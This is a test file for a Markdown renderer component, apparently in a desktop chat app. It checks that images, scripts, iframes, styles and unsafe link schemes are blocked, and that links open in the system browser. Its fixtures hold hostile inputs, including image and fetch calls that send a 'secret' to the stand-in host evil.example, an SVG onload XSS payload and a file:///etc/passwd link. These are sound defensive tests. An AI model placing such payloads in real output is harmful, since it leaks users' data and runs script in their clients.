import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, test, vi } from "vitest";
import { BackendContext } from "../ipc/backend";
import { FakeBackend } from "../ipc/fake";
import { Markdown } from "./Markdown";

function show(text: string, streaming = false) {
  const backend = new FakeBackend();
  const { container } = render(
    <BackendContext value={backend}>
      <Markdown text={text} streaming={streaming} />
    </BackendContext>,
  );
  return { backend, container };
}

test.each([
  "![secret](https://evil.example/?q=secret)",
  "![secret][1]\n\n[1]: https://evil.example/x.png",
  '<img src="https://evil.example/x.png">',
  '<svg onload="alert(1)"></svg>',
  "<style>@import url(https://evil.example)</style>",
  '<iframe src="https://evil.example"></iframe>',
  "<script>fetch('https://evil.example')</script>",
])("nothing is fetched or run for %s", (text) => {
  for (const streaming of [true, false]) {
    const { container } = show(text, streaming);
    expect(container.querySelector("img, svg, style, iframe, script, object, link, video, audio")).toBeNull();
    expect(container.querySelector("[src], [srcset], [onload], [href]")).toBeNull();
  }
});

test("HTML shows as the text that it is", () => {
  const { container } = show("a <b>bold</b> claim");
  expect(container).toHaveTextContent("a <b>bold</b> claim");
});

test("a link opens in the system's browser, not here", async () => {
  const { backend } = show("[site](https://example.org/)");
  await userEvent.click(screen.getByRole("link", { name: "site" }));
  expect(backend.opened).toEqual(["https://example.org/"]);
});

test.each(["javascript:alert(1)", "file:///etc/passwd", "tauri://localhost", "data:text/html,x"])(
  "%s is no link",
  (href) => {
    show(`[site](${href})`);
    expect(screen.queryByRole("link")).toBeNull();
    expect(screen.getByText("site")).toBeInTheDocument();
  },
);

test("headings, lists and tables become what they are", () => {
  show("# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  expect(screen.getByRole("heading", { name: "Title" })).toBeInTheDocument();
  expect(screen.getAllByRole("listitem")).toHaveLength(2);
  expect(screen.getByRole("cell", { name: "2" })).toBeInTheDocument();
});

test("a code block keeps its text exactly, in colour, and can be copied", async () => {
  const user = userEvent.setup();
  const code = "def f(x):\n    return x < 1  # <b>\n\nf(2)";
  const { container } = show(`\`\`\`python\n${code}\n\`\`\``);
  await waitFor(() => expect(container.querySelector("pre span[style]")).not.toBeNull(), { timeout: 10_000 });
  expect(container.querySelector("pre")?.textContent).toBe(code);
  await user.click(screen.getByRole("button", { name: "Copy code" }));
  expect(await navigator.clipboard.readText()).toBe(code);
  expect(screen.getByRole("button", { name: "Copied" })).toBeInTheDocument();
});

test("a fence that is still open already shows as code", () => {
  const { container } = show("```js\nlet a =", true);
  expect(container.querySelector("pre")?.textContent).toBe("let a =");
});

test("a finished paragraph is not drawn again while the next one grows", () => {
  const checks = vi.spyOn(URL, "canParse");
  const growing = (text: string) => (
    <BackendContext value={backend}>
      <Markdown text={`[site](https://example.org/)\n\n${text}`} streaming />
    </BackendContext>
  );
  const backend = new FakeBackend();
  const { container, rerender } = render(growing("One"));
  const before = checks.mock.calls.length;
  expect(before).toBeGreaterThan(0);
  rerender(growing("One, two"));
  expect(container).toHaveTextContent("One, two");
  expect(checks).toHaveBeenCalledTimes(before);
});
